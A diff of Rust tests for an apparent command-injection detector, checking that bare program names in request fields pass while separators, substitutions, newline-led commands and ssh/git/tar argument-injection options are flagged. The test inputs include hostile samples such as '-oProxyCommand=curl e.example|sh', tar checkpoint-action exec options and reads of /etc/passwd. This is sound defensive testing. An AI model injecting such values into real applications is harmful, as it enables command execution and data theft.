@@ -283,9 +283,12 @@ fn gate_test_agrees_with_bare_word() {
         };
         bare += 1;
         yes += usize::from(h.is_some());
-        assert_eq!(gate_test(w), h.is_some(), "{w:?}");
+        // The gate admits every unambiguous program (what the analysis of a word with
+        // arguments needs); the check reports only the reconnaissance words among them.
+        assert_eq!(gate_test(w), bare_program(w.as_bytes()), "{w:?}");
+        assert!(h.is_none() || gate_test(w), "{w:?}");
     }
-    assert!(bare > 1000 && yes > 100 && yes < bare, "{bare} bare words, {yes} programs");
+    assert!(bare > 1000 && yes > 10 && yes < bare, "{bare} bare words, {yes} programs");
     // The literal anchors decide those words (bare_word leaves them to the analysis).
     assert!(bare_word("powershell").is_none() && gate_test("whoami") && !gate_test("id") && !gate_test("created_at"));
     // Not bare words: the walk.
@@ -450,7 +453,8 @@ fn gate_test_agrees_with_the_references_on_generated_values() {
             // to the analysis.
             if let Some(h) = bare_word(&v) {
                 bare += 1;
-                assert_eq!(gate_test(&v), h.is_some(), "{v:?}");
+                assert_eq!(gate_test(&v), bare_program(v.as_bytes()), "{v:?}");
+                assert!(h.is_none() || gate_test(&v), "{v:?}");
             }
         } else {
             walks += 1;
@@ -794,5 +798,65 @@ fn tags_of_rich_text_are_no_redirections() {
     // A redirection to or from a path still is one.
     for v in ["x;more</etc/passwd", ";cat</etc/passwd", "a;id>/tmp/x", "a;ls<br>"] {
         assert!(q(v) >= 60, "{v}: {}", q(v));
+    }
+}
+
+#[test]
+fn a_bare_word_is_not_a_command() {
+    let conf = |v: &str, field: FieldKind, level: Level| detector().check(&Input { raw: v, decoded: v, field }, level).map_or(0, |h| h.confidence);
+    // Search suggestions, autocomplete prefixes, JSON values: a word that is also a program.
+    for v in ["pwd", "ls", "gzip", "hostname", "nc", "cd", "at", "id", "whoami", "ifconfig", "Netstat", "uname"] {
+        for field in [FieldKind::QueryValue, FieldKind::JsonValue, FieldKind::PathSegment, FieldKind::QueryName, FieldKind::JsonKey] {
+            assert_eq!(conf(v, field, Level::Balanced), 0, "{v:?} {field:?}");
+        }
+    }
+    // At strict a reconnaissance word alone is a probe, in a value only.
+    for v in ["whoami", "pwd", "ifconfig"] {
+        assert_eq!(conf(v, FieldKind::QueryValue, Level::Strict), 45, "{v:?}");
+        assert_eq!(conf(v, FieldKind::PathSegment, Level::Strict), 0, "{v:?}");
+        assert_eq!(conf(v, FieldKind::QueryName, Level::Strict), 0, "{v:?}");
+    }
+    for v in ["ls", "gzip", "hostname", "cat", "curl"] {
+        for field in [FieldKind::QueryValue, FieldKind::PathSegment] {
+            assert_eq!(conf(v, field, Level::Strict), 0, "{v:?} {field:?}");
+        }
+    }
+    // With a separator, a substitution or shell arguments it is a command line.
+    for v in ["ls;", ";ls", "whoami;", "| whoami", "$(pwd)", "`hostname`", "x; gzip -d /tmp/a", "ls -la /etc", "a&&id"] {
+        assert!(conf(v, FieldKind::QueryValue, Level::Balanced) >= 60, "{v:?}: {}", conf(v, FieldKind::QueryValue, Level::Balanced));
+    }
+}
+
+#[test]
+fn options_that_run_commands_are_argument_injection() {
+    // Values an application passes as an argument of ssh, git or tar, written for this rule.
+    for v in [
+        "-oProxyCommand=curl e.example|sh",
+        "-o ProxyCommand=id",
+        "x -oLocalCommand=touch${IFS}/tmp/p",
+        "--upload-pack=touch /tmp/pwn",
+        "--receive-pack='id'",
+        "--checkpoint=1 --checkpoint-action=exec=sh shell.sh",
+        "--use-compress-program=sh",
+        "--to-command=id",
+    ] {
+        assert!(q(v) >= 80, "{v}: {}", q(v));
+    }
+    // The directive as configuration text, options that run nothing.
+    for v in ["ProxyCommand ssh -W %h:%p bastion", "--upload", "--output-dir", "-o", "--checkpoint=10"] {
+        assert!(q(v) < 60, "{v}: {}", q(v));
+    }
+}
+
+#[test]
+fn stack_frames_after_a_newline_are_not_commands() {
+    for v in [
+        "TypeError: t is undefined\n    at sleep (https://static.shop.example/js/app.js:12:88)",
+        "Error\n  at time (vendor.js:3:10)\n  at Object.run (main.js:1:1)",
+    ] {
+        assert!(q(v) < 60, "{v:?}: {}", q(v));
+    }
+    for v in ["x\nat now + 1 minute", "x\nid", "x\ntime sleep 5", "a\ncat /etc/passwd (x)"] {
+        assert!(q(v) >= 60, "{v:?}: {}", q(v));
     }
 }
